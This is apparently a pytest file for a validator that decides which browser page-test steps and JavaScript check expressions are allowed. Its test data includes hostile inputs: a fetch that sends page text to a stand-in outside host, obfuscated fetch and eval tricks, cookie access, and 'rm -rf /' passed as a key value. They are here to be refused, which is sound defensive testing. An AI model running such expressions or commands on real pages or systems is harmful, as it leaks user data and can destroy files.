from __future__ import annotations

import pytest

from engine.domain.browser_report import PageAction, PageTest
from engine.plan.page_tests import LONGEST_WAIT, as_page_test, guesses, problem_of
from engine.plan.predicates import LONGEST_EXPRESSION, Page, PageStep
from tests.little_time import little_time

GREETS = "document.querySelector('#greeting').textContent.includes('Ada')"


def page(*steps: tuple[str, str, str], expression: str = GREETS) -> Page:
    done = [PageStep(do=do, selector=s, value=v) for do, s, v in steps]  # type: ignore[arg-type]
    return Page(steps=done, expression=expression)


@pytest.mark.parametrize(
    "step",
    [
        ("fill", "#name", "Ada"),
        ("fill", "input[name=who]", ""),
        ("select", "#region", "North"),
        ("click", "#tabs button.second", ""),
        ("press", "", "Escape"),
        ("press", "#name", "Control+Shift+A"),
        ("wait", "", "300"),
        ("wait", "", "300 ms"),
        ("reload", "", ""),
        ("open", "", "?url=https://x.test/a.png"),
        ("open", "", "index.html?a=1&b=%20#top"),
        ("open", "", "#about"),
        ("open", "", "/"),
    ],
)
def test_a_step_that_uses_the_page_may_be_done(step: tuple[str, str, str]) -> None:
    assert problem_of(page(step)) == ""


@pytest.mark.parametrize(
    ("step", "problem"),
    [
        (("click", "", ""), "Step 1 (click) names no element."),
        (("fill", " ", "x"), "Step 1 (fill) names no element."),
        (("wait", "#a", "300"), "Step 1 (wait) takes no selector."),
        (("open", "#a", "?b=1"), "Step 1 (open) takes no selector."),
        (("click", "text=Save", ""), "Step 1 (click) has a selector that is no CSS: text=Save."),
        (("click", "//button", ""), "Step 1 (click) has a selector that is no CSS: //button."),
        (("click", "#a >> b", ""), "Step 1 (click) has a selector that is no CSS: #a >> b."),
        (("select", "#a", ""), "Step 1 (select) names no value to select."),
        (("press", "#a", "rm -rf /"), "Step 1 (press) names no key: rm -rf /."),
        (("wait", "", "for it"), "Step 1 (wait) names no milliseconds: for it."),
        (
            ("open", "", "https://example.com/?a=1"),
            "Step 1 (open) opens more than a query or a fragment of the page: https://example.com/?a=1.",
        ),
        (("open", "", "//x/?a=1"), "Step 1 (open) opens more than a query or a fragment of the page: //x/?a=1."),
        (("open", "", "about.html"), "Step 1 (open) opens more than a query or a fragment of the page: about.html."),
    ],
)
def test_any_other_step_is_named_with_its_fault(step: tuple[str, str, str], problem: str) -> None:
    assert problem_of(page(step)) == problem


def test_waits_count_together() -> None:
    half = ("wait", "", str(LONGEST_WAIT // 2))
    assert problem_of(page(half, half)) == ""
    assert problem_of(page(half, half, ("wait", "", "1"))) == "It waits 3001 ms, longer than 3000 ms."


@pytest.mark.parametrize(
    ("expression", "found"),
    [
        ("fetch('https://elsewhere.example/?' + document.body.innerText)", "fetch"),
        ("new XMLHttpRequest()", "XMLHttpRequest"),
        ("navigator.sendBeacon('/x')", "sendBeacon"),
        ("import('https://elsewhere.example/x.js')", "import"),
        ("window['fe' + 'tch']('x')", "['fe'"),
        ("self[atob('ZmV0Y2g=')]('x')", "]("),
        ("['fetch'].map((name) => window[name]('x'))", "]("),
        ("window[`fe${'tch'}`]", "[`fe${'tch'}`"),
        ("[].constructor.constructor('return 1')()", "constructor"),
        ("Reflect.get(window, 'x')", "Reflect"),
        ("eval('1')", "eval"),
        ("location.href = 'https://elsewhere.example/'", "="),
        ("location.assign('x')", "assign()"),
        ("window.open('x')", "open()"),
        ("window.open?.('x')", "open()"),
        ("history.back()", "history"),
        ("document.title = 'X'", "="),
        ("document.querySelector('#a').textContent = '5'", "="),
        ("document.querySelector('#a').click()", "click()"),
        ("document.querySelector('#a').classList.add('x')", "add()"),
        ("document.querySelector('#a').click.call(1)", "call()"),
        ("localStorage.setItem('a', 'b')", "setItem()"),
        ("document.cookie", "cookie"),
        ("(() => { while (true) {} })()", "while"),
        ("(() => { for (;;) {} })()", "for"),
        ("x ??= 1", "??="),
        ("x++", "++"),
        ("true; document.title", ";"),
        ("`${fetch('x')}`", "fetch"),
        ("setTimeout(() => true, 1e9)", "setTimeout"),
    ],
)
def test_an_expression_that_does_more_than_look_is_refused(expression: str, found: str) -> None:
    assert problem_of(page(expression=expression)) == f"Its expression does more than look: {found}."


@pytest.mark.parametrize("expression", ["f\\u0065tch('x')", "document.title === 'x", "document.title === #x", "`${"])
def test_what_cannot_be_read_is_refused(expression: str) -> None:
    assert problem_of(page(expression=expression)) == "Its expression cannot be read as JavaScript."


@pytest.mark.parametrize(
    "expression",
    [
        GREETS,
        "document.querySelectorAll('#rows tbody tr').length >= 3;",
        "[...document.querySelectorAll('li')].every((li, at) => li.textContent !== String(at))",
        "['a', 'b'].every((text, at) => document.querySelectorAll('li')[at].textContent === text)",
        "document.querySelectorAll('li')[0].textContent === 'a'",
        "location.href.endsWith('?a=1') && document.title === 'for while fetch = x'",
        "/^\\d{4}-\\d{2}$/.test(document.querySelector('#d').textContent)",
        "/for|fetch/.test(document.title)",
        "JSON.parse(localStorage.getItem('notes'))[0] === 'a'",
        "getComputedStyle(document.body).display == 'block'",
        "document.querySelector('dialog').open",
        "`${document.title}` === 'a'",
        "(() => { return document.title !== '' })()",
    ],
)
def test_an_expression_that_looks_is_let_through(expression: str) -> None:
    assert problem_of(page(expression=expression)) == ""


def test_a_test_has_its_steps_in_one_form() -> None:
    steps = (
        ("fill", "#name", "Ada"),
        ("select", "#kind", "b"),
        ("click", "#greet", "left"),
        ("wait", "", "200 ms"),
        ("open", "", "./index.html?a=1"),
        ("open", "", "index.html"),
        ("press", "", "Escape"),
    )
    assert as_page_test(page(*steps)) == PageTest(
        (
            PageAction("fill", "#name", "Ada"),
            PageAction("select", "#kind", "b"),
            PageAction("click", "#greet"),
            PageAction("wait", "", "200"),
            PageAction("open", "", "?a=1"),
            PageAction("reload"),
            PageAction("press", "", "Escape"),
        ),
        GREETS,
    )


WORDS = "A field #name, a button #greet and an output #greeting that says Hello. Region North."


@pytest.mark.parametrize(
    ("test", "guessed"),
    [
        (page(("fill", "#name", "Ada"), ("click", "#greet", "")), ()),
        (page(expression="document.querySelector('#greeting').textContent.trim() === 'Hello'"), ()),
        (page(expression="document.querySelectorAll('.card').length === 3"), ("card", "3")),
        (page(("click", "#submit", ""), expression="document.title.length > 0"), ("submit",)),
        (page(expression="document.body.innerText.includes(`Welcome`)"), ("Welcome",)),
        (page(expression="/x/.test(document.title)"), ("x",)),
        (page(("select", "#region", "North"), expression="document.querySelector('#region').value === 'North'"), ()),
    ],
)
def test_names_that_neither_brief_nor_checks_give_are_guesses(test: Page, guessed: tuple[str, ...]) -> None:
    assert guesses(test, WORDS) == guessed


@pytest.mark.parametrize("text", ["a[", "'", "`${", "(", "/", "\\", "/*", "x=>", "{"])
def test_hostile_expressions_take_little_time(text: str) -> None:
    with little_time():
        problem_of(page(expression=(text * LONGEST_EXPRESSION)[:LONGEST_EXPRESSION]))
